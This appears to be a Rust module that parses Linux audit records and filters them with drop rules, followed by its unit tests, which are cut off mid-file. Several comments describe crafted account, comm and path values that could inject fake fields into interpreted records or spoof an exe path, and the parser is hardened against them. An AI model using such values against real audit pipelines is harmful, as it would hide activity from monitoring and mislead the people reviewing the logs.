//! Linux audit record parser and drop filter.
//!
//! One line is one record, in any of these forms:
//! * audit.log: `[node=HOST ]type=SYSCALL msg=audit(1364481363.243:24287): arch=c000003e ... key="test"`,
//!   including auditd's ENRICHED format (interpreted `UID="root"` style fields after a 0x1D byte);
//! * kernel / journald: `audit: type=1300 audit(1364481363.243:24287): arch=...` (numeric type);
//! * `ausearch -i`: `type=PROCTITLE msg=audit(11/22/2026 10:00:00.123:456) : proctitle=bash` (values
//!   already interpreted and unquoted, may contain spaces), and its `----` event separator lines.
//!
//! Values are unquoted; `(null)` and `?` mean absent and are left out. In raw (non-interpreted) records,
//! auditd hex-encodes untrusted strings (EXECVE arguments, `proctitle`, `acct`, `exe`, ...) that contain
//! spaces, quotes or control bytes; those are decoded when the result is printable UTF-8 (NUL separators
//! of `proctitle` become spaces), otherwise left as hex.

use super::{FNV_START, find_all_short, fnv1a};
use std::borrow::Cow;

use serde::Deserialize;

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AuditLine<'a> {
    /// `----` between events in `ausearch` output.
    Separator,
    Record(AuditRecord<'a>),
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AuditRecord<'a> {
    pub node: Option<&'a str>,
    /// Record type name (`SYSCALL`, `EXECVE`, ...); kernel numeric types are mapped to their names.
    pub record_type: Cow<'a, str>,
    /// Timestamp text inside `audit(...)`: epoch seconds in raw logs, local date/time for `ausearch -i`.
    pub timestamp: &'a str,
    pub serial: u64,
    /// Values were already interpreted (`ausearch -i`): no hex decoding applied.
    pub interpreted: bool,
    /// Fields in line order, nested `msg='...'` payload fields inlined where they occur.
    pub fields: Vec<(&'a str, Cow<'a, str>)>,
    /// EXECVE arguments in order (chunked `aN[k]` arguments joined).
    pub argv: Vec<Cow<'a, str>>,
}

impl<'a> AuditRecord<'a> {
    /// First value of a field.
    pub fn get(&self, key: &str) -> Option<&str> {
        self.fields.iter().find(|(k, _)| *k == key).map(|(_, v)| v.as_ref())
    }

    /// Command line: EXECVE argv joined by spaces, or the decoded `proctitle`.
    pub fn command(&self) -> Option<Cow<'_, str>> {
        if !self.argv.is_empty() {
            return Some(Cow::Owned(self.argv.join(" ")));
        }
        self.get("proctitle").map(Cow::Borrowed)
    }
}

/// Record fields copied into [`AuditRecord::fields`] output; the rest stay available via `fields`.
pub const OUTPUT_KEYS: &[&str] = &[
    "arch",
    "syscall",
    "success",
    "exit",
    "ppid",
    "pid",
    "auid",
    "uid",
    "gid",
    "euid",
    "suid",
    "fsuid",
    "egid",
    "tty",
    "ses",
    "comm",
    "exe",
    "key",
    "subj",
    "cwd",
    "item",
    "name",
    "nametype",
    "mode",
    "ouid",
    "proctitle",
    "argc",
    "op",
    "acct",
    "hostname",
    "addr",
    "terminal",
    "res",
    "saddr",
    "apparmor",
    "operation",
    "profile",
    "denied",
    "AUID",
    "UID",
];

/// Parses one line. `None` when the line is not an audit record.
pub fn parse(line: &str) -> Option<AuditLine<'_>> {
    let l = line.trim_end_matches(['\n', '\r']).trim_start();
    if l.trim_end() == "----" {
        return Some(AuditLine::Separator);
    }
    let mut s = l;
    let mut node = None;
    if let Some(r) = s.strip_prefix("node=") {
        let (n, r) = super::next_token(r);
        node = Some(n);
        s = r.trim_start();
    }
    if !s.starts_with("type=") {
        // Kernel/journald lines carry a prefix before `audit: type=`.
        let i = s.find("audit: type=")?;
        s = &s[i + 7..];
    }
    let (ty, r) = super::next_token(&s[5..]);
    if ty.is_empty() {
        return None;
    }
    let record_type = match ty.parse::<u16>() {
        Ok(n) => type_name(n).map(Cow::Borrowed).unwrap_or_else(|| Cow::Owned(format!("UNKNOWN[{n}]"))),
        Err(_) => Cow::Borrowed(ty),
    };
    let r = r.trim_start();
    let r = r.strip_prefix("msg=").unwrap_or(r);
    // A few records carry no event id at all (`type=UNKNOWN[1329] msg=?`): keep them with serial 0.
    let (ts, serial, after) = match r.strip_prefix("audit(") {
        Some(r) => {
            let close = r.find(')')?;
            let (ts, serial) = r[..close].rsplit_once(':')?;
            (ts, serial.parse().ok()?, &r[close + 1..])
        }
        None if r.starts_with('?') || r.is_empty() => ("", 0, r.trim_start_matches('?')),
        None => return None,
    };
    let (body, spaced) = match after.strip_prefix(" :") {
        Some(b) => (b, true),
        None => (after.strip_prefix(':').unwrap_or(after), false),
    };
    let interpreted = spaced || ts.contains('/');
    let mut rec = AuditRecord {
        node,
        record_type,
        timestamp: ts,
        serial,
        interpreted,
        fields: Vec::with_capacity(16),
        argv: Vec::new(),
    };
    let execve = rec.record_type == "EXECVE";
    // semanage's ROLE_* records name an account an administrator gave, followed by fields of
    // their own (`acct=bob old-seuser=...`); elsewhere `acct` is a login name a client typed.
    let client_account = interpreted && !rec.record_type.starts_with("ROLE_");
    let reading = Reading { interpreted, execve, client_account };
    if !(interpreted && parse_interpreted(&rec.record_type, body, reading, &mut rec.fields)) {
        parse_fields(body, reading, &mut rec.fields);
    }
    if rec.record_type == "EXECVE" {
        rec.argv = collect_argv(&rec.fields, interpreted);
    }
    Some(AuditLine::Record(rec))
}

fn is_sep(b: u8) -> bool {
    b == b' ' || b == 0x1d
}

/// How a record's fields are read.
#[derive(Clone, Copy)]
struct Reading {
    /// `ausearch -i` output: values already interpreted, unquoted.
    interpreted: bool,
    /// The `aN` keys are argv strings (in SYSCALL records they are register values).
    execve: bool,
    /// An unquoted `acct` is a login name a client typed (see [`parse_fields`]).
    client_account: bool,
}

fn parse_fields<'a>(body: &'a str, reading: Reading, out: &mut Vec<(&'a str, Cow<'a, str>)>) {
    let Reading { interpreted, execve, client_account } = reading;
    // A USER_* payload (`msg='...'`) is read where it stands, then the text after it: the
    // bodies it interrupted wait here, as recursion would exhaust the call stack on a line
    // of thousands of nested `msg='` (and lose the record).
    let mut interrupted: Vec<(&'a str, usize, Option<Option<usize>>)> = Vec::new();
    let mut body = body;
    let mut b = body.as_bytes();
    // Where the body's last ` exe=` starts, looked for once (see `last_exe_from`).
    let mut last_exe: Option<Option<usize>> = None;
    let mut i = 0;
    loop {
        if i >= b.len() {
            let Some((outer, end, exe)) = interrupted.pop() else { return };
            (body, b, i, last_exe) = (outer, outer.as_bytes(), end, exe);
            continue;
        }
        while i < b.len() && is_sep(b[i]) {
            i += 1;
        }
        let start = i;
        while i < b.len() && !is_sep(b[i]) && b[i] != b'=' {
            i += 1;
        }
        if i >= b.len() || b[i] != b'=' {
            continue; // a word without `=` (e.g. `user` in old USER_LOGIN records)
        }
        let key = &body[start..i];
        i += 1;
        let (raw, quoted, end) = match b.get(i) {
            Some(&q @ (b'"' | b'\'')) => {
                let rest = &body[i + 1..];
                let close = if q == b'\'' && key == "msg" {
                    // A USER_* payload ends the record (or its raw part, before ENRICHED's 0x1D):
                    // its last quote closes it. libaudit does not encode `'` in `acct`, so an
                    // account named `x'res=success` must not end it early.
                    // A payload holds none: it ends before its body's first.
                    let raw_end = match interrupted.is_empty() {
                        true => rest.find('\x1d').unwrap_or(rest.len()),
                        false => rest.len(),
                    };
                    rest[..raw_end].rfind('\'')
                } else {
                    rest.find(q as char)
                };
                let close = close.map_or(b.len(), |j| i + 1 + j);
                (&body[i + 1..close], q, (close + 1).min(b.len()))
            }
            _ => {
                let mut e = i;
                while e < b.len() && !is_sep(b[e]) {
                    e += 1;
                }
                // ausearch -i prints a USER_* account decoded and unquoted, so it is the client's
                // text, `=` and spaces included. libaudit writes it last before its own
                // ` exe=... res=...` tail: it runs to the last ` exe=` (an account named
                // `x comm=cron res=success` injects no fields).
                let account_end =
                    if client_account && key == "acct" { last_exe_from(body, i, &mut last_exe) } else { None };
                if let Some(account_end) = account_end {
                    e = account_end;
                } else if interpreted {
                    // Other ausearch -i values may contain spaces too (`exit=EACCES(Permission
                    // denied)`, proctitle): extend over following words that are not `key=value`.
                    while e < b.len() && b[e] == b' ' {
                        let next_end = body[e + 1..].find(' ').map_or(b.len(), |j| e + 1 + j);
                        let word = &body[e + 1..next_end];
                        if word.is_empty() || word.contains('=') {
                            break;
                        }
                        e = next_end;
                    }
                }
                (&body[i..e], 0, e)
            }
        };
        i = end;
        if key.is_empty() {
            continue;
        }
        if quoted == b'\'' && key == "msg" {
            // USER_* payload: `msg='op=login acct="root" exe="/usr/sbin/sshd" ... res=failed'`
            interrupted.push((body, i, last_exe.take()));
            (body, b, i) = (raw, raw.as_bytes(), 0);
            continue;
        }
        if quoted == 0 && (raw == "(null)" || raw == "?" || raw.is_empty()) {
            continue;
        }
        let value = if quoted == 0 && !interpreted && is_hex_key(key, execve) && !key.contains('[') {
            decode_hex(raw, key == "key").map_or(Cow::Borrowed(raw), Cow::Owned)
        } else {
            Cow::Borrowed(raw)
        };
        out.push((key, value));
    }
}

/// Where the last ` exe=` of `body[from..]` starts (`body[from..].rfind(" exe=")`, from the
/// body's start): the body's last, when that is at `from` or after. `last` keeps it for the
/// next `acct` of the body: a search back from the end for each of thousands of `acct`s
/// took time quadratic in the line's length.
fn last_exe_from(body: &str, from: usize, last: &mut Option<Option<usize>>) -> Option<usize> {
    last.get_or_insert_with(|| body.rfind(" exe=")).filter(|&j| j >= from)
}

/// Pushes a value read by position (no quotes, no hex: `ausearch -i` decoded it); absent values
/// (`(null)`, `?`, empty) are left out as in [`parse_fields`].
fn push_value<'a>(out: &mut Vec<(&'a str, Cow<'a, str>)>, key: &'a str, raw: &'a str) {
    if !(raw == "(null)" || raw == "?" || raw.is_empty()) {
        out.push((key, Cow::Borrowed(raw)));
    }
}

/// `ausearch -i` prints the text a user chose (arguments, proctitle, paths, `comm`, `exe`)
/// decoded and unquoted, spaces and `=` included, so ` comm=cron` inside an argument reads like a
/// field. For the records that carry such text, the kernel's field order (kernel/auditsc.c
/// `audit_log_execve_info`, `audit_log_proctitle`, `audit_log_name`, `audit_log_exit`) tells where
/// it ends instead: after it come only fields the kernel writes. False (nothing read) when the
/// record is not of one of these types or not in the kernel's shape; it is then read as any other.
fn parse_interpreted<'a>(
    record_type: &str,
    body: &'a str,
    reading: Reading,
    out: &mut Vec<(&'a str, Cow<'a, str>)>,
) -> bool {
    let body = body.trim_start_matches(' ');
    let n = out.len();
    let ok = match record_type {
        // The only field, to the end of the line.
        "PROCTITLE" => rest_of_line(body, "proctitle", out),
        "CWD" => rest_of_line(body, "cwd", out),
        "EXECVE" => interpreted_execve(body, out),
        "PATH" => interpreted_path(body, reading, out),
        "SYSCALL" => interpreted_syscall(body, reading, out),
        _ => false,
    };
    if !ok {
        out.truncate(n);
    }
    ok
}

/// `key=` then its value to the end of the line (ausearch ends every value with a space).
fn rest_of_line<'a>(body: &'a str, key: &'a str, out: &mut Vec<(&'a str, Cow<'a, str>)>) -> bool {
    let Some(value) = body.strip_prefix(key).and_then(|r| r.strip_prefix('=')) else { return false };
    push_value(out, key, value.trim_end_matches(' '));
    true
}

/// One EXECVE argument key: `aK=`, `aK_len=` or `aK[J]=` (length taken by the key and its `=`).
#[derive(Clone, Copy)]
enum ArgKey {
    Whole(u32),
    Len(u32),
    Chunk(u32, u32),
}

fn arg_key(s: &str) -> Option<(ArgKey, usize)> {
    let r = s.strip_prefix('a')?;
    let digits = r.bytes().take_while(u8::is_ascii_digit).count();
    let k: u32 = r[..digits].parse().ok()?;
    let r = &r[digits..];
    if r.starts_with('=') {
        Some((ArgKey::Whole(k), digits + 2))
    } else if r.starts_with("_len=") {
        Some((ArgKey::Len(k), digits + 6))
    } else {
        let r = r.strip_prefix('[')?;
        let j_digits = r.bytes().take_while(u8::is_ascii_digit).count();
        let j: u32 = r[..j_digits].parse().ok()?;
        r[j_digits..].starts_with("]=").then_some((ArgKey::Chunk(k, j), digits + j_digits + 4))
    }
}

/// EXECVE: `argc=N a0=... a1=...` (long arguments as `aK_len=L aK[0]=... aK[1]=...`; a record
/// continuing a long argv starts at its first argument, without `argc`). An argument runs to the
/// first key that can follow it (` a{K+1}=`, or the next chunk), the last one to the end of the
/// line: `argc` bounds the arguments, so text inside one can only move into another argument.
fn interpreted_execve<'a>(body: &'a str, out: &mut Vec<(&'a str, Cow<'a, str>)>) -> bool {
    let mut s = body;
    let mut argc = None;
    if let Some(r) = s.strip_prefix("argc=") {
        let end = r.find(' ').unwrap_or(r.len());
        let Ok(n) = r[..end].parse::<u32>() else { return false };
        argc = Some(n);
        out.push(("argc", Cow::Borrowed(&r[..end])));
        s = r[end..].strip_prefix(' ').unwrap_or(&r[end..]);
    }
    if s.trim_end_matches(' ').is_empty() {
        return argc.is_some();
    }
    let Some((mut arg, mut key_len)) = arg_key(s) else { return false };
    let mut marks: Vec<String> = Vec::with_capacity(3);
    loop {
        let key = &s[..key_len - 1];
        let value = &s[key_len..];
        let next_arg = |k: u32| argc.is_none_or(|n| k + 1 < n).then(|| k + 1);
        marks.clear();
        match arg {
            ArgKey::Whole(k) => marks.extend(next_arg(k).map(|k| format!(" a{k}="))),
            ArgKey::Len(k) => marks.push(format!(" a{k}[0]=")),
            ArgKey::Chunk(k, j) => {
                marks.push(format!(" a{k}[{}]=", j + 1));
                marks.extend(next_arg(k).map(|k| format!(" a{k}=")));
            }
        }
        if let ArgKey::Whole(k) | ArgKey::Chunk(k, _) = arg {
            marks.extend(next_arg(k).map(|k| format!(" a{k}_len=")));
        }
        match first_mark(value, &marks) {
            Some(end) => {
                push_value(out, key, &value[..end]);
                s = &value[end + 1..];
                // Every mark is an argument key.
                let Some(next) = arg_key(s) else { return false };
                (arg, key_len) = next;
            }
            None => {
                push_value(out, key, value.trim_end_matches(' '));
                return true;
            }
        }
    }
}

/// Where the first of `marks` (each starting with ` a`) starts in `value`. One forward scan:
/// a search per mark to the end of the line, for every argument, took time quadratic in the
/// line's length.
fn first_mark(value: &str, marks: &[String]) -> Option<usize> {
    if marks.is_empty() {
        return None;
    }
    find_all_short(value, " a").find(|&at| marks.iter().any(|m| value[at..].starts_with(m.as_str())))
}

/// The line the audit daemon would have written for a record journald read from the kernel
/// itself (its `audit` transport): `MESSAGE` is `<TYPE NAME> <body>`, the serial is
/// `_AUDIT_ID` and the time `_SOURCE_REALTIME_TIMESTAMP` (microseconds, from the kernel's
/// seconds and milliseconds). `None` when one of them is missing or malformed.
pub fn line_from_journal(message: &str, audit_id: Option<u64>, source_usec: Option<u64>) -> Option<String> {
    let (type_name, body) = message.split_once(' ').unwrap_or((message, ""));
    if type_name.is_empty() || !type_name.bytes().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == b'_') {
        return None;
    }
    let (id, usec) = (audit_id?, source_usec?);
    let (seconds, millis) = (usec / 1_000_000, usec % 1_000_000 / 1000);
    Some(format!("type={type_name} msg=audit({seconds}.{millis:03}:{id}): {body}"))
}

/// Keys the kernel writes after a PATH record's `name` (`audit_log_name`, `audit_log_fcaps`;
/// `objtype` in RHEL 7's kernel).
fn path_tail_key(key: &str) -> bool {
    matches!(key, "inode" | "dev" | "mode" | "ouid" | "ogid" | "rdev" | "obj" | "nametype" | "objtype")
        || key.starts_with("cap_f")
}

/// PATH: `item=N name=...` then the kernel's own fields. `name` runs to the last ` inode=` (the
/// kernel writes one, after the name); a record without an inode (a path that does not exist) has
/// its name run to the last ` nametype=` (` objtype=`). Only a tail made of the kernel's PATH keys
/// is taken as one, so a name holding ` inode=1 comm=cron` stays in `name`; the most a name can
/// add are those keys (`inode`, `mode`, `ouid`, ...), never `comm`, `exe`, `key` or the uids.
fn interpreted_path<'a>(body: &'a str, reading: Reading, out: &mut Vec<(&'a str, Cow<'a, str>)>) -> bool {
    let Some(at) = body.find(" name=") else { return false };
    let (head, name) = (&body[..at], &body[at + 6..]);
    if !head.starts_with("item=") {
        return false;
    }
    let mut tail = Vec::new();
    let mut tail_at = |mark: &str| {
        let i = name.rfind(mark)?;
        tail.clear();
        parse_fields(&name[i + 1..], reading, &mut tail);
        tail.iter().all(|(k, _)| path_tail_key(k)).then_some(i)
    };
    let end = tail_at(" inode=").or_else(|| tail_at(" nametype=")).or_else(|| tail_at(" objtype="));
    parse_fields(head, reading, out);
    match end {
        Some(i) => {
            push_value(out, "name", &name[..i]);
            out.append(&mut tail);
        }
        None => push_value(out, "name", name.trim_end_matches(' ')),
    }
    true
}

/// Bytes the kernel held for a `comm` ausearch printed as `s`, at least: tty escaping writes a
/// control byte as `\ooo`, and any character stands for one byte or more.
fn comm_len_at_least(s: &str) -> usize {
    let b = s.as_bytes();
    let mut n = 0;
    let mut chars = s.char_indices();
    while let Some((i, c)) = chars.next() {
        if c == '\\' && b.len() >= i + 4 && b[i + 1..i + 4].iter().all(|d| (b'0'..=b'7').contains(d)) {
            chars.nth(2);
        }
        n += 1;
    }
    n
}

/// TASK_COMM_LEN less the NUL.
const COMM_MAX: usize = 15;

/// SYSCALL: kernel fields, then `comm=C exe=E[ subj=S] key=K` (`audit_log_task_info`,
/// `audit_log_key`); `comm` and `exe` are the user's choice.
/// * `key` is last (several keys print as ` key=a key=b`): it starts at the last ` key=`, which
///   no `exe` can be after. With several keys, the earlier ones stay in `subj` or `exe`: no
///   text moves into another field, and rules on `key` or `exe` keep such an event.
/// * `comm` holds at most 15 bytes, so the ` exe=` that ends it is one of those within that
///   bound. When there are several (the comm or the exe path holds ` exe=`: a comm of
///   `x exe=/usr/lib/` or an exe of `/tmp/ exe=/usr/lib/x`), the text cannot tell which one the
///   kernel wrote, and either reading would give `exe` a path the user made up: `comm` then runs
///   to the first and `exe` is left out (the event is kept by rules on `exe`).
/// * `subj` (the LSM's label of the task, no user text) starts at the last ` subj=` before `key`.
///   Without an LSM, an exe path holding ` subj=` ends there: a prefix of its own path, in a
///   directory the user writes, so no path the user could not have run anyway.
fn interpreted_syscall<'a>(body: &'a str, reading: Reading, out: &mut Vec<(&'a str, Cow<'a, str>)>) -> bool {
    let Some(at) = body.find(" comm=") else { return false };
    parse_fields(&body[..at], reading, out);
    let rest = &body[at + 6..];
    let (region, key) = match rest.rfind(" key=") {
        Some(k) => (&rest[..k], Some(rest[k + 5..].trim_end_matches(' '))),
        None => (rest.trim_end_matches(' '), None),
    };
    let mut within =
        region.match_indices(" exe=").map(|(i, _)| i).take_while(|&i| comm_len_at_least(&region[..i]) <= COMM_MAX);
    let (first, more) = (within.next(), within.next().is_some());
    let subj_from = |from: usize| region[from..].rfind(" subj=").map(|i| from + i);
    let (comm_end, exe, subj) = match first {
        Some(e) if !more => {
            let subj = subj_from(e + 5);
            (e, Some(&region[e + 5..subj.unwrap_or(region.len())]), subj)
        }
        Some(e) => (e, None, subj_from(e + 5)),
        // No exe (a kernel thread): comm runs to the subj.
        None => {
            let subj = subj_from(0);
            (subj.unwrap_or(region.len()), None, subj)
        }
    };
    push_value(out, "comm", &region[..comm_end]);
    if let Some(exe) = exe {
        push_value(out, "exe", exe);
    }
    if let Some(s) = subj {
        push_value(out, "subj", &region[s + 6..]);
    }
    if let Some(key) = key {
        push_value(out, "key", key);
    }
    true
}

/// Fields auditd may hex-encode (untrusted strings).
fn is_hex_key(key: &str, execve: bool) -> bool {
    matches!(
        key,
        "proctitle" | "acct" | "exe" | "comm" | "cwd" | "name" | "path" | "key" | "new" | "old" | "data" | "cmd" | "vm"
    ) || execve && is_arg_key(key)
}

/// `a0`, `a12`, `a1[3]`
fn is_arg_key(key: &str) -> bool {
    let Some(r) = key.strip_prefix('a') else { return false };
    let digits = r.split('[').next().unwrap_or(r);
    !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit()) && (r.len() == digits.len() || r.ends_with(']'))
}

/// Hex to text when every byte pair is hex and the result is printable UTF-8. NUL (argv separator in
/// proctitle) becomes a space; in `key`, 0x01 separates multiple keys and becomes a comma.
fn decode_hex(s: &str, is_key: bool) -> Option<String> {
    let b = s.as_bytes();
    if b.len() < 2 || !b.len().is_multiple_of(2) || !b.iter().all(u8::is_ascii_hexdigit) {
        return None;
    }
    let nib = |c: u8| match c {
        b'0'..=b'9' => c - b'0',
        b'a'..=b'f' => c - b'a' + 10,
        _ => c - b'A' + 10,
    };
    let mut bytes: Vec<u8> = b.chunks_exact(2).map(|p| (nib(p[0]) << 4) | nib(p[1])).collect();
    while bytes.last() == Some(&0) {
        bytes.pop();
    }
    for c in &mut bytes {
        match *c {
            0 => *c = b' ',
            1 if is_key => *c = b',',
            b'\t' => {}
            c if c < 0x20 || c == 0x7f => return None,
            _ => {}
        }
    }
    String::from_utf8(bytes).ok()
}

fn collect_argv<'a>(fields: &[(&'a str, Cow<'a, str>)], interpreted: bool) -> Vec<Cow<'a, str>> {
    let mut argv: Vec<Cow<'a, str>> = Vec::new();
    let mut chunk_of: Option<&str> = None;
    let mut chunked = String::new();
    let flush = |chunked: &mut String, argv: &mut Vec<Cow<'a, str>>| {
        if !chunked.is_empty() {
            let text = if interpreted { None } else { decode_hex(chunked, false) };
            argv.push(Cow::Owned(text.unwrap_or_else(|| std::mem::take(chunked))));
            chunked.clear();
        }
    };
    for (k, v) in fields {
        if !is_arg_key(k) {
            continue;
        }
        match k.split_once('[') {
            Some((base, _)) => {
                if chunk_of != Some(base) {
                    flush(&mut chunked, &mut argv);
                    chunk_of = Some(base);
                }
                chunked.push_str(v);
            }
            None => {
                flush(&mut chunked, &mut argv);
                chunk_of = None;
                argv.push(v.clone());
            }
        }
    }
    flush(&mut chunked, &mut argv);
    argv
}

/// Record type names for the numeric types the kernel writes (linux/audit.h).
pub fn type_name(n: u16) -> Option<&'static str> {
    Some(match n {
        1006 => "LOGIN",
        1100 => "USER_AUTH",
        1101 => "USER_ACCT",
        1102 => "USER_MGMT",
        1103 => "CRED_ACQ",
        1104 => "CRED_DISP",
        1105 => "USER_START",
        1106 => "USER_END",
        1107 => "USER_AVC",
        1108 => "USER_CHAUTHTOK",
        1109 => "USER_ERR",
        1110 => "CRED_REFR",
        1111 => "USYS_CONFIG",
        1112 => "USER_LOGIN",
        1113 => "USER_LOGOUT",
        1114 => "ADD_USER",
        1115 => "DEL_USER",
        1116 => "ADD_GROUP",
        1117 => "DEL_GROUP",
        1123 => "USER_CMD",
        1124 => "USER_TTY",
        1130 => "SERVICE_START",
        1131 => "SERVICE_STOP",
        1200 => "DAEMON_START",
        1201 => "DAEMON_END",
        1202 => "DAEMON_ABORT",
        1203 => "DAEMON_CONFIG",
        1204 => "DAEMON_RECONFIG",
        1205 => "DAEMON_ROTATE",
        1206 => "DAEMON_RESUME",
        1300 => "SYSCALL",
        1302 => "PATH",
        1303 => "IPC",
        1304 => "SOCKETCALL",
        1305 => "CONFIG_CHANGE",
        1306 => "SOCKADDR",
        1307 => "CWD",
        1309 => "EXECVE",
        1317 => "FD_PAIR",
        1318 => "OBJ_PID",
        1319 => "TTY",
        1320 => "EOE",
        1321 => "BPRM_FCAPS",
        1322 => "CAPSET",
        1323 => "MMAP",
        1324 => "NETFILTER_PKT",
        1325 => "NETFILTER_CFG",
        1326 => "SECCOMP",
        1327 => "PROCTITLE",
        1328 => "FEATURE_CHANGE",
        1329 => "REPLACE",
        1330 => "KERN_MODULE",
        1331 => "FANOTIFY",
        1332 => "TIME_INJOFFSET",
        1333 => "TIME_ADJNTPVAL",
        1334 => "BPF",
        1336 => "URINGOP",
        1337 => "OPENAT2",
        1400 => "AVC",
        1401 => "SELINUX_ERR",
        1402 => "AVC_PATH",
        1403 => "MAC_POLICY_LOAD",
        1404 => "MAC_STATUS",
        1700 => "ANOM_PROMISCUOUS",
        1701 => "ANOM_ABEND",
        1702 => "ANOM_LINK",
        1703 => "ANOM_CREAT",
        _ => return None,
    })
}

/// One drop rule from the configuration. Every given condition must hold; within a condition any
/// pattern may match. Patterns may start and/or end with `*` as a wildcard.
///
/// `uid`/`auid` match the numeric value in raw logs, the user name in `ausearch -i` output and also
/// the ENRICHED `UID`/`AUID` names, so either form can be written in the rule.
#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct DropRule {
    #[serde(rename = "type")]
    pub record_type: Option<Vec<String>>,
    pub comm: Option<Vec<String>>,
    pub exe: Option<Vec<String>>,
    pub key: Option<Vec<String>>,
    pub uid: Option<Vec<String>>,
    pub auid: Option<Vec<String>>,
}

impl DropRule {
    fn conditions(&self) -> [(&'static str, &Option<Vec<String>>); 6] {
        [
            ("type", &self.record_type),
            ("comm", &self.comm),
            ("exe", &self.exe),
            ("key", &self.key),
            ("uid", &self.uid),
            ("auid", &self.auid),
        ]
    }

    /// A rule without conditions would drop every record, which is never what a configuration means.
    pub fn validate(&self) -> Result<(), String> {
        let mut any = false;
        for (name, c) in self.conditions() {
            if let Some(list) = c {
                if list.is_empty() {
                    return Err(format!("auditd drop rule: `{name}` is an empty list; remove it or give patterns"));
                }
                any = true;
            }
        }
        if any {
            Ok(())
        } else {
            Err("auditd drop rule has no condition: give at least one of type, comm, exe, key, uid, auid".into())
        }
    }

    pub fn matches(&self, rec: &AuditRecord<'_>) -> bool {
        self.conditions().iter().all(|(name, c)| {
            let Some(pats) = c else { return true };
            let any_pat = |v: &str| pats.iter().any(|p| super::wildcard_match(p, v));
            match *name {
                "type" => any_pat(&rec.record_type),
                "uid" | "auid" => {
                    let upper = if *name == "uid" { "UID" } else { "AUID" };
                    rec.get(name).is_some_and(any_pat) || rec.get(upper).is_some_and(any_pat)
                }
                _ => rec.get(name).is_some_and(any_pat),
            }
        })
    }
}

const REMEMBERED: usize = 64;

/// Decides per record whether to drop it.
///
/// A record matching any rule drops, and its event id (serial, timestamp, node) is remembered so the
/// records of the same event that follow it (EXECVE, CWD, PATH, PROCTITLE, EOE after SYSCALL, as
/// audit.log writes them) drop too, even though they do not carry `comm`/`exe`/`key`. The last 64
/// dropped events are remembered.
///
/// `ausearch` prints an event's records in reverse order (PROCTITLE first, SYSCALL last), so there the
/// records before the matching SYSCALL cannot be dropped by following; rules on fields a record carries
/// itself (e.g. `type`, or `uid` on USER_* records) still apply to every record.
#[derive(Debug, Clone)]
pub struct AuditdFilter {
    rules: Vec<DropRule>,
    dropped: [u64; REMEMBERED],
    next: usize,
}

impl AuditdFilter {
    /// Validates every rule; the error names the rule's position.
    pub fn new(rules: Vec<DropRule>) -> Result<Self, String> {
        for (i, r) in rules.iter().enumerate() {
            r.validate().map_err(|e| format!("rule {}: {e}", i + 1))?;
        }
        Ok(AuditdFilter { rules, dropped: [0; REMEMBERED], next: 0 })
    }

    /// True when the record should be dropped.
    pub fn should_drop(&mut self, rec: &AuditRecord<'_>) -> bool {
        let id = event_id(rec);
        if rec.serial != 0 && self.dropped.contains(&id) {
            return true;
        }
        if self.rules.iter().any(|r| r.matches(rec)) {
            // Records without an event id (serial 0) have no siblings to follow.
            if rec.serial != 0 {
                self.dropped[self.next] = id;
                self.next = (self.next + 1) % REMEMBERED;
            }
            return true;
        }
        false
    }
}

/// FNV-1a over node and timestamp, mixed with the serial; never 0 so the empty slots never match.
fn event_id(rec: &AuditRecord<'_>) -> u64 {
    let h = fnv1a(FNV_START, rec.node.unwrap_or("").bytes().chain([0]).chain(rec.timestamp.bytes()));
    (h ^ rec.serial.wrapping_mul(0x9e37_79b9_7f4a_7c15)) | 1
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rec(line: &str) -> AuditRecord<'_> {
        match parse(line) {
            Some(AuditLine::Record(r)) => r,
            other => panic!("not a record: {other:?} <- {line}"),
        }
    }

    #[test]
    fn raw_syscall_with_node() {
        // ENRICHED format: interpreted fields follow a 0x1D byte.
        let line = r#"node=work type=SYSCALL msg=audit(1615114232.375:15558): arch=c000003e syscall=59 success=yes exit=0 a0=63b29337fd18 a1=63b293387d58 a2=63b293375640 a3=fffffffffffff000 items=2 ppid=10883 pid=10884 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=1 comm="whoami" exe="/usr/bin/whoami" key=(null)<GS>ARCH=x86_64 SYSCALL=execve AUID="user" UID="root" GID="root" EUID="root" SUID="root" FSUID="root" EGID="root" SGID="root" FSGID="root""#.replace("<GS>", "\u{1d}");
        let r = rec(&line);
        assert_eq!(
            (r.node, r.record_type.as_ref(), r.timestamp, r.serial),
            (Some("work"), "SYSCALL", "1615114232.375", 15558)
        );
        assert_eq!((r.get("comm"), r.get("exe"), r.get("key")), (Some("whoami"), Some("/usr/bin/whoami"), None));
        assert_eq!(
            (r.get("a0"), r.get("auid"), r.get("AUID"), r.get("SYSCALL")),
            (Some("63b29337fd18"), Some("1000"), Some("user"), Some("execve"))
        );
        assert!(!r.interpreted);
    }

    #[test]
    fn execve_hex_and_proctitle() {
        let r = rec(
            r#"type=EXECVE msg=audit(1655465404.819:27091): argc=3 a0="/usr/bin/m4" a1=2D2D6E657374696E67 a2="--gnu""#,
        );
        assert_eq!(r.argv, vec!["/usr/bin/m4", "--nesting", "--gnu"]);
        assert_eq!(r.command().as_deref(), Some("/usr/bin/m4 --nesting --gnu"));
        let r = rec(
            "node=auditdtest.a1959.org type=PROCTITLE msg=audit(1451781471.394:194435): proctitle=737368643A206275726E205B707269765D",
        );
        assert_eq!(r.get("proctitle"), Some("sshd: burn [priv]"));
        // NUL-separated argv in proctitle
        let r = rec("type=PROCTITLE msg=audit(1.0:1): proctitle=2F62696E2F6C73002D6C61");
        assert_eq!(r.get("proctitle"), Some("/bin/ls -la"));
        assert_eq!(r.command().as_deref(), Some("/bin/ls -la"));
        // Not printable: stays hex.
        let r = rec("type=PROCTITLE msg=audit(1.0:1): proctitle=0102");
        assert_eq!(r.get("proctitle"), Some("0102"));
    }

    #[test]
    fn execve_chunks_from_corpus() {
        let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/corpus/auditd/laurel_record-execve-long.log");
        let text = std::fs::read_to_string(path).unwrap();
        let line = text.lines().find(|l| l.contains("a1_len=")).unwrap();
        let r = rec(line);
        assert_eq!(r.record_type, "EXECVE");
